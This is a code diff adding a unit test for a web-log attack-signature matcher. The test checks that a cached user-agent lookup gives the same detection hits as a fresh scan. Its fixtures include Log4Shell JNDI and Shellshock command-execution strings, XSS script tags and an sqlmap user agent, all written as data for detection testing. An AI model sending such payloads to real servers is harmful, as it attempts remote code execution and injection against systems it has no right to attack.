@@ -174,6 +174,44 @@ static void test_benign(void **state)
 	assert_int_equal(hits_of("/", "CocCoc/1.0 (Windows NT 10.0; Win64; x64) coc_coc_browser/128.0"), 0);
 }
 
+/* The user-agent memo answers exactly as a scan would: same hits, same order,
+ * a signature hit in both fields listed once, and a different text not served
+ * from a slot it shares. */
+static void test_header_memo(void **state)
+{
+	(void)state;
+	struct weblog_sigs_scratch *fresh = NULL;
+	const char *uas[] = {"${jndi:ldap://198.51.100.7/a}", "Mozilla/5.0 <script>alert(1)</script>", "sqlmap/1.7",
+			     "Mozilla/5.0 (X11)", "() { :; }; /bin/bash -c id"};
+	const char *uris[] = {"/", "/a?q=<script>x</script>", "/tin-tuc"};
+	for (int round = 0; round < 3; round++) {
+		for (size_t u = 0; u < sizeof uas / sizeof uas[0]; u++) {
+			for (size_t r = 0; r < sizeof uris / sizeof uris[0]; r++) {
+				struct weblog_entry e;
+				memset(&e, 0, sizeof e);
+				e.ip = "192.0.2.1";
+				e.method = "GET";
+				e.uri = uris[r];
+				e.referer = "-";
+				e.user_agent = uas[u];
+				struct weblog_sig_hits a, b;
+				assert_int_equal(weblog_sigs_scratch_new(sigs, &fresh), 0);
+				assert_int_equal(weblog_sigs_match(sigs, fresh, &e, &a), 0); /* no memo yet */
+				weblog_sigs_scratch_free(fresh);
+				assert_int_equal(weblog_sigs_match(sigs, scratch, &e, &b), 0); /* memo from round 1 */
+				assert_int_equal(a.n, b.n);
+				for (int i = 0; i < a.n; i++)
+					assert_ptr_equal(a.sig[i], b.sig[i]);
+				for (int i = 0; i < b.n; i++)
+					for (int j = 0; j < i; j++)
+						assert_ptr_not_equal(b.sig[i], b.sig[j]);
+			}
+		}
+	}
+	assert_true(hits_of("/", "${jndi:ldap://x/a}") & (1u << WEBLOG_CAT_LOG4SHELL));
+	assert_int_equal(hits_of("/", "Mozilla/5.0 (X11)"), 0);
+}
+
 static void test_decode_and_load(void **state)
 {
 	(void)state;
@@ -201,6 +239,7 @@ int main(void)
 		cmocka_unit_test(test_traversal), cmocka_unit_test(test_cmdi),
 		cmocka_unit_test(test_log4shell), cmocka_unit_test(test_probes_and_tools),
 		cmocka_unit_test(test_benign),    cmocka_unit_test(test_decode_and_load),
+		cmocka_unit_test(test_header_memo),
 	};
 	return cmocka_run_group_tests(tests, setup, teardown);
 }
